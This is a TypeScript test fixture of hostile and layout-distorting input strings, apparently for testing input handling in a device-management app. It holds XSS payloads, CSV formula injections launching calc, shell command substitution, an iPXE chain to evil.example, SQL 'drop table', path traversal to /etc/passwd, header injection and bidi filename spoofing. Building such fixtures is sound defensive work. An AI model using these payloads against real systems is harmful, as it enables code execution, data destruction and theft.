/**
 * Texts as somebody hostile would hand them over, by what they try: names, options of DHCP, file names, notes. `hacked`
 * is what they want.
 */
export const hostileTexts = {
  'an element': '<script>window.hacked=1</script>',
  'an element that fails': '<img src=x onerror=window.hacked=1>',
  'an element of a picture': '<svg onload=window.hacked=1>',
  'the end of an attribute': `"' onfocus=window.hacked=1 autofocus x="`,
  'the end of a script': '</script><script>window.hacked=1</script>',
  'the end of a title': '</title><img src=x onerror=hacked=1>',
  'an address': 'javascript:window.hacked=1',
  'a template': '{{constructor.constructor("hacked=1")()}}',
  'a formula': '=HYPERLINK("http://evil.example";"hacked")',
  'a sum': '+1+cmd|" /C calc"!A0',
  'a difference': '-2+3+cmd|" /C calc"!A0',
  'a function': '@SUM(1+1)*cmd|" /C calc"!A0',
  'a formula after a tab': '\t=1+1',
  'a formula after a return': '\r=1+1',
  "a terminal's sequences": '\x1b[2J\x1b]0;hacked\x07\x1b[31mred',
  'text turned around': 'evil\u202etxt.exe\u2066',
  'a zero byte': 'zero\u0000byte',
  'control characters': 'bell\u0007del\u007fnext\u0085',
  'half a character': 'half\ud800',
  'a header': 'x\r\nSet-Cookie: hacked=1\r\n\r\n<b>',
  'a line of a log': 'x\n{"level":50,"msg":"hacked"}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a variable of iPXE.
  'a variable': '${net0/mac} ${hacked}',
  'a shell': '$(touch /tmp/hacked) `id` \\',
  'another command': 'quiet || shell ; chain http://evil.example/ && x #c',
  'the end of quotes': `'";} ''' "" \\" \\' %s %n`,
  'a statement': `'; drop table device; --`,
  'a way out': '../../../../etc/passwd',
  'percent signs': '%00%0d%0a%3Cscript%3E',
  'something long': 'x'.repeat(65_536),
} as const

/**
 * The texts that pass everywhere where printable ASCII of a line's length is accepted: devices' texts as edges report
 * them.
 */
export const printableTexts = Object.values(hostileTexts).filter((text) => /^[\x20-\x7e]{1,64}$/.test(text))

/** Texts that distort a page, a terminal or a line instead of running: each is refused, or stays within its place. */
export const bendingTexts = {
  'a name without end': 'W'.repeat(64),
  'a note without end': 'W'.repeat(500),
  'signs as wide as ten': '\ufdfd'.repeat(64),
  'a tower of marks': `t${'\u0310\u0346'.repeat(31)}`,
  'text from the right': '\u05d0\u05d1\u05d2 abc \u0661\u0662\u0663',
  'text turned around': hostileTexts['text turned around'],
  'text turned around to its end': 'invoice\u202efdp.sh',
  'no width at all': 'a\u200bb\u2060c\ufeffd',
  'lines by other names': 'a\u2028b\u2029c\u0085d',
  "a terminal's sequences": hostileTexts["a terminal's sequences"],
  'control characters': hostileTexts['control characters'],
} as const
